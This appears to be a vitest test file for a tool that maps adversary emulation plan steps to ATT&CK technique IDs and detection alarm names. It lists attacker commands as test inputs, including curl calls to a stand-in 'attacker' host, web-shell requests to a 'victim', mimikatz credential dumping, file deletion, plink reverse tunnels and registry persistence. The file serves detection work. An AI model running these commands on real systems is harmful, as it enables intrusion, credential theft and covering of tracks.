/** What a plan calls a technique is taken for what it means, and a step is told by the alarm that shows what it runs. */
import { mkdtempSync, rmSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { expect, onTestFinished, test } from 'vitest';
import { scenarioFrom } from '../../../src/cli/scenario/from/from.ts';

function writtenFrom(text: string): string {
  const folder = mkdtempSync(join(tmpdir(), 'choice-'));
  onTestFinished(() => rmSync(folder, { recursive: true }));
  writeFileSync(join(folder, 'plan.yaml'), text);
  return scenarioFrom(join(folder, 'plan.yaml')).text;
}

test('a step without an id is told by its name, where that is one technique of those that are done to a victim', () => {
  const named = (name: string): string =>
    writtenFrom(`- emulation_plan_details: { adversary_name: x }\n- name: ${name}\n  technique: { attack_id: x }\n`);
  expect(named('Spearphishing Attachment')).toContain('T1566.001, by its name');
  expect(named('Local Account')).toContain('names no technique');
});

test('a step whose id and number changed places is told by what its technique is called', () => {
  const step = 'technique: { attack_id: 7.A.5, name: "Input Capture: Keylogging" }\n  procedure_step: T1056.001\n';
  const text = writtenFrom(`- emulation_plan_details: { adversary_name: x }\n- name: Keys\n  ${step}`);
  expect(text).toContain('# Keys (T1056.001, by its name');
});

const plan = (technique: string, command: string, platform = 'windows'): string =>
  `- emulation_plan_details: { adversary_name: x }\n- name: Step\n  technique: ${technique}\n  platforms: { ${platform}: { cmd: { command: '${command}' } } }\n`;

test.each([
  ['an id that was given up', '{ attack_id: T1086, name: PowerShell }', 'T1059.001, T1086 in the file'],
  [
    'an id beside the name of another',
    '{ attack_id: T1021, name: Password Policy Discovery }',
    'T1201, T1021 in the file',
  ],
  [
    'the name with what is above it',
    '{ attack_id: T1082, name: "Hide Artifacts: Hidden Files & Directories" }',
    'T1564.001, T1082',
  ],
  [
    'a name of before',
    '{ attack_id: T1552.003, name: "Unsecured Credentials: Bash History" }',
    '(T1552.003, seen on linux)',
  ],
  ['a name that several have', '{ attack_id: T1087.002, name: Local Account }', '(T1087.002)'],
  ['no id and no name', '{ name: x }', 'names no technique'],
])('%s is taken for what its author means', (_what, technique, told) => {
  expect(writtenFrom(plan(technique, 'x'))).toContain(told);
});

test.each([
  ['{ attack_id: T1033, name: x }', 'curl http://attacker/?c=whoami', 'linux', 'disc-whoami-web'],
  // Begun from the attacker's machine, run on a host of Windows.
  ['{ attack_id: T1033, name: x }', 'curl -d "pro=cmd.exe" -d "c=whoami" https://victim/', 'linux', 'disc-whoami'],
  [
    '{ attack_id: T1049, name: x }',
    'curl -d "pro=cmd.exe" -d "c=netstat -an" https://victim/',
    'linux',
    'disc-netstat',
  ],
  ['{ attack_id: T1070.004, name: x }', 'xdotool type "del C:\\Temp\\a.exe"', 'linux', 'evade-del'],
  ['{ attack_id: T1021.001, name: x }', 'exec-background xfreerdp /u:#{user}', 'linux', 'lat-rdp-logon'],
  // What is filled in, and where output goes, tells nothing.
  ['{ attack_id: T1087.002, name: x }', 'net user /domain >> list.txt', 'windows', 'disc-net-user-domain'],
  ['{ attack_id: T1572, name: x }', 'plink -ssh -R #{server.name}:1:2', 'windows', 'c2-plink'],
  // What is run counts before what the technique is called, and whole texts before words.
  ['{ attack_id: T1069.002, name: x }', 'net group /domain', 'windows', 'disc-net-group-domain'],
  [
    '{ attack_id: T1547.001, name: x }',
    'reg add "HKCU\\Microsoft\\CurrentVersion\\Run" /v a',
    'windows',
    'persist-run-key',
  ],
  ['{ attack_id: T1105, name: x }', 'Start-BitsTransfer -Source "http://#{host}/a"', 'windows', 'c2-bits-download'],
  ['{ attack_id: T1105, name: x }', 'copy \\\\TSCLIENT\\X\\a.bat a.bat', 'windows', 'c2-tsclient-copy'],
  ['{ attack_id: T1082, name: x }', 'uname -a', 'linux', 'disc-uname'],
  ['{ attack_id: T1082, name: x }', 'systeminfo', 'windows', 'disc-systeminfo'],
  ['{ attack_id: T1083, name: x }', 'find /home', 'linux', 'disc-find'],
  [
    '{ attack_id: T1083, name: File and Directory Discovery }',
    'curl "http://attacker/?c=ls+-lsahR"',
    'linux',
    'disc-ls-recursive',
  ],
  ['{ attack_id: T1016, name: x }', 'arp -a', 'windows', 'disc-arp'],
  ['{ attack_id: T1007, name: x }', 'net start', 'windows', 'disc-net-start'],
  ['{ attack_id: T1087.002, name: x }', 'net.exe user /domain', 'windows', 'disc-net-user-domain'],
  ['{ attack_id: T1560.001, name: x }', '7z a x.7z', 'windows', 'coll-archive-7z'],
  ['{ attack_id: T1018, name: x }', 'nslookup fileserver', 'windows', 'disc-nslookup'],
  ['{ attack_id: T1572, name: x }', 'plink.exe -R 1:2:3', 'windows', 'c2-plink'],
  ['{ attack_id: T1070.004, name: x }', 'del C:\\Windows\\Temp\\a.exe', 'windows', 'evade-del'],
  ['{ attack_id: T1070.004, name: x }', 'rm -rf /var/tmp/a', 'linux', 'evade-rm'],
  ['{ attack_id: T1003.001, name: x }', 'mimikatz.exe sekurlsa::logonpasswords', 'windows', 'cred-mimikatz'],
])('of alarms of %s, %s on %s is told by what shows it', (technique, command, platform, alarm) => {
  expect(writtenFrom(plan(technique, command, platform))).toContain(`alarm: ${alarm},`);
});

test('an action of a flow is told by the command that it leads to', () => {
  const service = { type: 'attack-action', technique_id: 'T1543.003', name: 'Service' };
  const command = { type: 'process', id: 'process--1', command_line: 'sc create x type= kernel binpath= x.sys' };
  const flowOf = (led: object): string =>
    JSON.stringify({ type: 'bundle', objects: [{ ...service, id: 'a--1', ...led }, command] });
  expect(writtenFrom(flowOf({ command_ref: command.id }))).toContain('persist-service-driver');
  expect(writtenFrom(flowOf({}))).not.toContain('persist-service-driver');
});

test.each([
  ['T1059.01', /plan\.yaml:3:\d+: .* is no ATT&CK technique/],
  ['T105', /is no ATT&CK technique/],
])('%s is refused with its place', (id, message) => {
  expect(() => writtenFrom(plan(`{ attack_id: ${id} }`, 'x'))).toThrow(message);
});
